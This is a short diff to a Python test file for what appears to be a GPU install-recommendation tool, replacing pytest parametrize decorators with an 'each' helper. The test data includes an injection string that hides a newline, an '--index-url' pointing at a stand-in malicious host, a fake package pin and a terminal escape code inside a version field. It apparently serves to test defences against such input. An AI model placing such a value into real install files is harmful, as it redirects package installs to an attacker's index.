@@ -4,6 +4,7 @@ from pathlib import Path
 
 import msgspec
 import pytest
+from each import each
 from test_machines import TABLES, reported
 
 from gpucheck.api.recommend_options import RecommendRequest
@@ -67,8 +68,8 @@ def test_without_torch_or_packages_there_is_nothing_to_write() -> None:
 INJECTED = "\n--index-url https://evil.example/simple\nevil-package==1.0\x1b[2J\n#"
 
 
-@pytest.mark.parametrize("tool", ["pip", "uv", "conda"])
-@pytest.mark.parametrize(
+@each("tool", ["pip", "uv", "conda"])
+@each(
     ("torch", "cuda", "python"),
     [
         (f"2.9.1+cpu{INJECTED}", "12.8", "3.12.3"),
